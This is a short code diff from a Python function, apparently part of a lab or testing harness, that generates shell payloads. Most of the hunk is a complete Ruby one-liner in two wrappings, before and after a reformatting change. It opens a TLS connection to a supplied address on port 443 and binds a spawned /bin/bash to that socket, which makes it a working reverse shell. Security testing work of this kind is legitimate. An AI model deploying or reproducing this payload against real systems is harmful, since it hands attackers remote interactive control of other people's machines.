@@ -179,8 +179,9 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
     )
     ruby = (
         "require 'socket'; require 'openssl'; require 'pty'; "
-        "s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ARGV[0], 443)); s.connect; s.sync = true; PTY.spawn('/bin/bash') { |o, i, _| Thread.new { while d = s.readpartial(4096); "
-        "i.write(d); end }; begin; loop { s.write(o.readpartial(4096)) }; rescue Errno::EIO, EOFError; end }"
+        "s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ARGV[0], 443)); s.connect; s.sync = true; "
+        "PTY.spawn('/bin/bash') { |o, i, _| Thread.new { while d = s.readpartial(4096); i.write(d); end }; "
+        "begin; loop { s.write(o.readpartial(4096)) }; rescue Errno::EIO, EOFError; end }"
     )
     prolog = lab.folder / "shell.pl"
     prolog.write_text(
